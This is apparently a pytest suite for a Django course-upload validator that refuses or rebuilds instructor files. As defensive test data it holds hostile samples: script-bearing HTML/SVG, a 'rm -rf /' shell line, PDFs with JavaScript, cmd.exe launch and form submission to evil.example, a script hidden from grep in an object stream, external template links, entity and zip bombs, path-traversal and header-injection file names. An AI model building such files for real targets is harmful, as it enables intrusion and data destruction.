"""Every file that an instructor may send, honest or not, and what is left of it."""

import io
import struct
import zipfile
import zlib

import av
import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import TemporaryUploadedFile
from PIL import Image
from pypdf import PdfReader
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from courses.teaching import uploads
from courses.teaching.uploads import check
from courses.teaching.uploads.kinds import Kind, safe_name
from courses.tests.files import assembled, film, odf, ooxml, pdf, upload, zipped
from courses.tests.pictures import picture
from langlearn.demo import files as demo

ALL = list(Kind)


def refused(content, name, kinds=ALL):
    with pytest.raises(ValidationError) as caught:
        check(upload(content, name), kinds)
    assert caught.value.messages[0]
    return caught.value.code


# Honest ones ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "name", "kind"),
    [
        (pdf(), "unit.pdf", "pdf"),
        (demo.pdf("Precios", ["Uno", "Dos"], "es"), "Unit.PDF", "pdf"),
        (pdf(password=""), "open.pdf", "pdf"),
        (ooxml("docx"), "a.docx", "office"),
        (ooxml("xlsx"), "a.xlsx", "office"),
        (ooxml("pptx"), "a.pptx", "office"),
        (odf("odt"), "a.odt", "office"),
        (odf("ods"), "a.ods", "office"),
        (odf("odp"), "a.odp", "office"),
        ("はい\n\tいいえ\r\n".encode(), "a.txt", "text"),
        ("\ufeffword,meaning\n".encode(), "a.csv", "text"),
        (b"# Unit 1\n\n- one\n", "a.md", "text"),
    ],
)
def test_pages_and_texts_stay_as_they_are(content, name, kind):
    checked = check(upload(content, name), ALL)
    checked.file.seek(0)
    assert (checked.kind, checked.file.read()) == (kind, content)
    assert checked.file_name == name.lower().replace("unit.", "Unit." if name[0] == "U" else "unit.")
    assert checked.file.name != name
    assert checked.file.name.endswith("." + name.rpartition(".")[2].lower())


def test_pictures_are_made_anew():
    checked = check(picture((3000, 100), "wide.png"), ALL)
    assert (checked.kind, checked.file_name) == ("image", "wide.webp")
    assert Image.open(checked.file).size == (2400, 80)


@pytest.mark.parametrize(
    ("made", "name", "kind", "file_name"),
    [
        (("mp4", "libx264", "aac"), "class.mp4", "video", "class.mp4"),
        (("mov", "libx264", "aac"), "phone.mov", "video", "phone.mp4"),
        (("webm", "libvpx", "libopus"), "screen.webm", "video", "screen.webm"),
        (("webm", "libvpx-vp9", None), "silent.webm", "video", "silent.webm"),
        (("matroska", "libx264", "libopus"), "screen.mkv", "video", "screen.mp4"),
        (("mp4", None, "aac"), "zoom.m4a", "audio", "zoom.m4a"),
        (("mp3", None, "libmp3lame"), "cd.mp3", "audio", "cd.mp3"),
        (("ogg", None, "libopus"), "voice.ogg", "audio", "voice.webm"),
    ],
)
def test_sound_and_video_are_packed_anew_and_measured(made, name, kind, file_name):
    checked = check(upload(film(*made), name), [Kind.VIDEO, Kind.AUDIO])
    content = checked.file.read()
    assert (checked.kind, checked.file_name) == (kind, file_name)
    assert checked.duration.total_seconds() == pytest.approx(2, abs=0.2)
    assert checked.file.size == len(content)
    assert b"SECRET" in film(*made)
    assert b"SECRET" not in content
    with av.open(io.BytesIO(content)) as again:
        for stream in again.streams:
            assert next(again.decode(stream)).pts is not None
            again.seek(0)


def test_an_mp4_begins_with_its_index():
    content = check(upload(film(), "class.mp4"), ALL).file.read()
    assert content.index(b"moov") < content.index(b"mdat")


def test_a_large_one_is_read_where_it_lies():
    made = TemporaryUploadedFile("class.mp4", "video/mp4", 0, None)
    made.write(film())
    made.flush()
    made.size = len(film())
    assert check(made, ALL).kind == "video"


# Not what they say ---------------------------------------------------------------------------------------------------

HTML = b"<!DOCTYPE html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (HTML, "unit.pdf"),
        (SVG, "cover.png"),
        (HTML, "notes.txt"),
        (b"\n  <HTML><body onload=alert(1)>", "notes.md"),
        (SVG, "words.csv"),
        (b'<?xml version="1.0"?><svg/>', "notes.txt"),
        (b"#!/bin/sh\nrm -rf /\n", "notes.txt"),
        (b"%!PS-Adobe", "notes.txt"),
        (b"{\\rtf1}", "notes.txt"),
        (b"MZ\x90\0", "unit.pdf"),
        (b"\x7fELF" + b"\0" * 60, "notes.txt"),
        (pdf(), "unit.docx"),
        (ooxml(), "unit.pdf"),
        (picture().read(), "unit.pdf"),
        (pdf(), "cover.png"),
        (film(), "unit.pdf"),
        (pdf(), "class.mp4"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old.docx"),
        (ooxml("docx"), "table.xlsx"),
        (odf("odt"), "table.ods"),
        (odf("odt"), "text.docx"),
        (zipped({"a.txt": "x"}), "text.docx"),
        (zipped({"a.txt": "x"}), "text.odt"),
        (b"", "notes.txt"),
        (b"", "unit.pdf"),
        (b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "cover.jpg"),
    ],
)
def test_a_kind_other_than_the_name_says(content, name):
    assert refused(content, name) in {"kind", "broken"}


def test_the_sentence_says_both():
    with pytest.raises(ValidationError) as caught:
        check(upload(picture().read(), "unit.pdf"), ALL)
    assert caught.value.messages == [
        "By its name this is a PDF, but it is a picture. Give it its right name, or choose another one."
    ]


OTHERS = ["a.exe", "a.html", "a.svg", "a.docm", "a.doc", "a.rtf", "a.zip", "pdf", "a.", ".pdf.", "a.pdf.js"]


@pytest.mark.parametrize("name", OTHERS)
def test_other_endings(name):
    assert refused(pdf(), name) == "ending"


def test_a_kind_that_is_not_asked_for():
    assert refused(film(), "class.mp4", [Kind.PDF]) == "ending"
    assert refused(film("mp4", None, "aac"), "class.mp4", [Kind.VIDEO]) == "kind"
    assert refused(film(), "class.m4a", [Kind.AUDIO]) == "kind"


def test_too_large_it_is_not_even_read(settings, monkeypatch):
    settings.UPLOAD_LIMIT = 100
    monkeypatch.setattr(uploads, "sniffed", None)
    assert refused(b"x" * 101, "a.pdf") == "size"


# PDFs ----------------------------------------------------------------------------------------------------------------


def entry(**entries):
    return DictionaryObject({NameObject(f"/{name}"): value for name, value in entries.items()})


def opens(action):
    def spoil(writer):
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)

    return spoil


def annotated(kind):
    def spoil(writer):
        writer.add_annotation(0, entry(Type=NameObject("/Annot"), Subtype=NameObject(f"/{kind}")))

    return spoil


ACTIVE = {
    "script": opens(entry(S=NameObject("/JavaScript"), JS=TextStringObject("app.alert(1)"))),
    "attachment": lambda writer: writer.add_attachment("a.exe", b"MZ"),
    "launch": opens(entry(S=NameObject("/Launch"), F=TextStringObject("cmd.exe"))),
    "form sent": opens(entry(S=NameObject("/SubmitForm"), F=TextStringObject("https://evil.example/"))),
    "another file": opens(entry(S=NameObject("/GoToR"), F=TextStringObject("\\\\evil\\share"))),
    "nested script": opens(entry(S=NameObject("/GoTo"), Next=entry(S=NameObject("/JavaScript")))),
    "film": annotated("RichMedia"),
    "screen": annotated("Screen"),
}


@pytest.mark.parametrize("how", ACTIVE)
def test_pdf_that_does_something(how):
    assert refused(pdf(ACTIVE[how]), "unit.pdf") == "active"


@pytest.mark.parametrize(
    "action", [b"/S /J#61vaScript", b"/S /URI /#4aS (app.alert)", b"/S /GoTo /Next [<</S /L#61unch>>]"]
)
def test_pdf_with_a_script_by_another_spelling(action):
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << %s >> >>"
    assert check(upload(assembled(catalog % b"/S /GoTo"), "unit.pdf"), ALL).kind == "pdf"
    assert refused(assembled(catalog % action), "unit.pdf") == "active"


def test_pdf_with_a_script_in_an_object_stream():
    """Where whoever greps for it does not see it."""
    hidden = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    packed = zlib.compress(b"5 0 " + hidden)
    objects = [
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>\nendobj\n",
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>\nendobj\n",
        b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n"
        % (len(packed), packed),
    ]
    content, places = b"%PDF-1.5\n", []
    for one in objects:
        places.append(len(content))
        content += one
    rows = struct.pack(">BHB", 0, 0, 255) + b"".join(struct.pack(">BHB", 1, place, 0) for place in places)
    rows += struct.pack(">BHB", 2, 4, 0) + struct.pack(">BHB", 1, len(content), 0)
    table = b"<< /Type /XRef /Size 7 /W [1 2 1] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream" % (len(rows), rows)
    content += b"6 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(content)
    assert PdfReader(io.BytesIO(content)).root_object["/OpenAction"]["/JS"] == "app.alert(1)"
    assert b"JavaScript" not in content
    assert refused(content, "unit.pdf") == "active"


def test_pdf_behind_a_password():
    assert refused(pdf(password="clave"), "unit.pdf") == "locked"


@pytest.mark.parametrize("tail", [HTML, zipped({"Main.class": b"x"}), b"\n" + pdf()[:50]])
def test_pdf_with_something_behind_it(tail):
    assert refused(pdf() + tail, "unit.pdf") == "kind"


def test_pdf_that_is_a_zip_too():
    jar = zipped({"Main.class": b"x"}, comment=b"\n%%EOF\n")
    assert refused(pdf()[:-6] + jar, "unit.pdf") in {"kind", "broken", "cut"}


def test_pdf_that_begins_late():
    assert refused(HTML + pdf(), "unit.pdf") == "kind"


@pytest.mark.parametrize("part", [0.3, 0.6, 0.95])
def test_pdf_that_is_cut(part):
    content = pdf()
    assert refused(content[: int(len(content) * part)], "unit.pdf") in {"cut", "broken"}


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7\nstartxref\n0\n%%EOF",
        b"%PDF-1.7\nstartxref\n99999999\n%%EOF",
        b"%PDF-1.7\n" + b"[" * 100_000 + b"\nstartxref\n9\n%%EOF",
        b"%PDF-1.7\n1 0 obj\n" + b"<</A" * 20_000 + b"\nstartxref\n9\n%%EOF",
    ],
)
def test_pdf_of_rubbish(content):
    assert refused(content, "unit.pdf") == "broken"


# Documents -----------------------------------------------------------------------------------------------------------

EXTERNAL = '<Relationship Type="http://x/{}" Target="https://evil.example/a.dotm" TargetMode="External"/>'


@pytest.mark.parametrize(
    "content",
    [
        ooxml(more={"word/vbaProject.bin": "x"}),
        ooxml(types='<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
        ooxml(more={"word/embeddings/oleObject1.bin": "x"}),
        ooxml(more={"word/activeX/activeX1.xml": "x"}),
        ooxml(more={"word/media/run.exe": "MZ"}),
        ooxml(more={"word/media/page.html": "x"}),
        ooxml(links=EXTERNAL.format("attachedTemplate")),
        ooxml(links=EXTERNAL.format("oleObject")),
        ooxml(links=EXTERNAL.format("attachedTemplate").replace("External", "&#69;xternal")),
    ],
)
def test_document_that_does_something(content):
    assert refused(content, "a.docx") == "active"


@pytest.mark.parametrize(
    "content",
    [
        odf(more={"Basic/Standard/Module1.xml": "x"}),
        odf(more={"Scripts/python/a.txt": "x"}),
        odf(content='<office xmlns:s="urn:x"><s:event-listener/></office>'),
    ],
)
def test_odf_that_does_something(content):
    assert refused(content, "a.odt") == "active"


def test_a_link_to_a_page_and_a_table_inside_are_no_harm():
    inside = ooxml(links=EXTERNAL.format("hyperlink"), more={"word/embeddings/Microsoft_Excel_Sheet1.xlsx": "x"})
    assert check(upload(inside, "a.docx"), ALL).kind == "office"


BOMB = "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'>" + "".join(
    f"<!ENTITY {new} '{f'&{old};' * 10}'>" for old, new in zip("abcdefgh", "bcdefghi", strict=True)
)


def test_entities_that_multiply():
    content = zipped({"[Content_Types].xml": BOMB + "]><x>&i;</x>", "_rels/.rels": "<x/>"})
    assert refused(content, "a.docx") == "active"


def test_a_bomb_by_what_it_says():
    assert refused(ooxml(more={"a.xml": b"\0" * 80_000_000}), "a.docx") == "bomb"


def test_a_bomb_that_lies_about_its_size():
    content = ooxml(more={"a.xml": b"\0" * 30_000_000})
    lying = content.replace(struct.pack("<I", 30_000_000), struct.pack("<I", 1000))
    assert lying != content
    assert refused(lying, "a.docx") == "broken"


def test_thousands_of_parts():
    assert refused(ooxml(more={f"{number}.xml": "" for number in range(5001)}), "a.docx") == "broken"


@pytest.mark.parametrize("name", ["../../etc/cron.d/a", "/etc/passwd", "a\\b.xml"])
def test_names_that_lead_out(name):
    assert refused(ooxml(more={name: "x"}), "a.docx") == "broken"


def test_something_before_or_behind_the_zip():
    assert refused(b"PK\x03\x04" + HTML + ooxml(), "a.docx") in {"kind", "broken"}
    made = io.BytesIO(ooxml())
    with zipfile.ZipFile(made, "a") as archive:
        archive.comment = HTML
    assert refused(made.getvalue(), "a.docx") == "kind"


def test_the_same_part_twice():
    made = io.BytesIO(ooxml())
    with zipfile.ZipFile(made, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("main.xml", "<other/>")
    assert refused(made.getvalue(), "a.docx") == "broken"


def test_a_damaged_part():
    content = ooxml(more={"a.bin": bytes(range(256)) * 40})
    place = content.index(b"a.bin") + 50
    assert refused(content[:place] + b"\xff\xff\xff" + content[place + 3 :], "a.docx") == "broken"


@pytest.mark.parametrize("part", [0.2, 0.5, 0.9])
def test_a_document_that_is_cut(part):
    content = ooxml()
    assert refused(content[: int(len(content) * part)], "a.docx") == "broken"


# Texts ---------------------------------------------------------------------------------------------------------------


NOT_UTF_8 = ["日本語".encode("shift_jis"), b"abc\0def", b"abc\x1b[2Jdef", "hola".encode("utf-16")]


@pytest.mark.parametrize("content", NOT_UTF_8)
def test_texts_that_are_not_utf_8(content):
    assert refused(b"a line\n" * 2000 + content, "a.txt") == "encoding"


def test_a_text_that_nobody_wrote():
    assert refused(b"x" * (10 * 1024 * 1024 + 1), "a.txt") == "long"


# Pictures, sound and video --------------------------------------------------------------------------------------------


def test_a_picture_with_a_script_behind_it_loses_it():
    content = picture().read() + HTML
    assert HTML not in check(upload(content, "a.png"), ALL).file.read()


@pytest.mark.parametrize("made", [("mp4", "libx264", "aac"), ("webm", "libvpx", "libopus")])
def test_a_video_that_is_cut(made):
    content = film(*made)
    ending = {"mp4": "mp4", "webm": "webm"}[made[0]]
    code = refused(content[: len(content) // 2], f"class.{ending}")
    assert code in {"broken", "cut"}


def test_a_video_with_its_index_in_front_that_is_cut():
    whole = check(upload(film(seconds=4), "class.mp4"), ALL).file.read()
    assert refused(whole[: len(whole) // 2], "class.mp4") in {"broken", "cut"}


@pytest.mark.parametrize("made", [("mp4", "mpeg4", "aac"), ("mp4", "libx264", "ac3")])
def test_what_no_browser_plays(made):
    assert refused(film(*made), "class.mp4") == "codec"


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"\x1a\x45\xdf\xa3" + b"\xff" * 5000, "a.webm"),
        (b"\0\0\0\x18ftypmp42" + b"\0" * 5000, "a.mp4"),
        (b"ID3\x04" + b"\0" * 5000, "a.mp3"),
        (b"OggS" + b"\xff" * 5000, "a.ogg"),
    ],
)
def test_signs_before_rubbish(content, name):
    assert refused(content, name) in {"broken", "kind", "silent"}


def test_something_behind_a_video_is_not_kept():
    content = film() + zipped({"Main.class": b"x" * 100})
    assert b"Main.class" not in check(upload(content, "class.mp4"), ALL).file.read()


# The process that looks ----------------------------------------------------------------------------------------------


def test_one_that_takes_too_long_is_killed(monkeypatch):
    monkeypatch.setattr(uploads, "CHECK_SECONDS", 0.01)
    assert refused(pdf(), "unit.pdf") == "broken"


def test_where_too_many_come_one_is_asked_to_wait(monkeypatch):
    monkeypatch.setattr(uploads, "CHECK_SECONDS", 0.01)
    for _place in range(2):
        assert uploads._places.acquire(timeout=1)
    try:
        assert refused(pdf(), "unit.pdf") == "busy"
    finally:
        uploads._places.release(2)


def test_it_knows_nothing_of_the_server(monkeypatch, tmp_path):
    """No secret in its environment, and no file but the one it is given."""
    seen = tmp_path / "seen"
    (tmp_path / "__main__.py").write_text(
        "import os, sys\n"
        f"open({str(seen)!r}, 'w').write(repr((sorted(os.environ), sorted(os.listdir('/proc/self/fd'))[:3])))\n"
        "print('{}')\n"
    )
    monkeypatch.setattr(uploads, "CHECKS", tmp_path)
    monkeypatch.setenv("SECRET_KEY", "hush")
    check(upload(pdf(), "unit.pdf"), ALL)
    assert "SECRET_KEY" not in seen.read_text()


# Names ---------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("Unidad 1: ¿qué tal?.pdf", "Unidad 1 ¿qué tal.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\Ana\\unit.pdf", "unit.pdf"),
        ("evil\u202efdp.exe.pdf", "evilfdp.exe.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "a Set-Cookie x.pdf"),
        ("한국어 단어.PDF", "한국어 단어.pdf"),
        ('a"b<c>|d.pdf', "a b c d.pdf"),
        (".pdf", "pdf.pdf"),
        ("....pdf", "file.pdf"),
        ("\u200b.pdf", "file.pdf"),
        ("x" * 300 + ".pdf", "x" * 120 + ".pdf"),
        ("unit", "unit.pdf"),
    ],
)
def test_names_are_kept_without_what_misleads(name, kept):
    assert safe_name(name, "pdf") == kept


def test_where_it_is_kept_nobody_can_guess():
    first, second = (check(upload(pdf(), "unit.pdf"), ALL).file.name for _ in range(2))
    assert first != second
    assert isinstance(check(picture(), ALL).file, ContentFile)
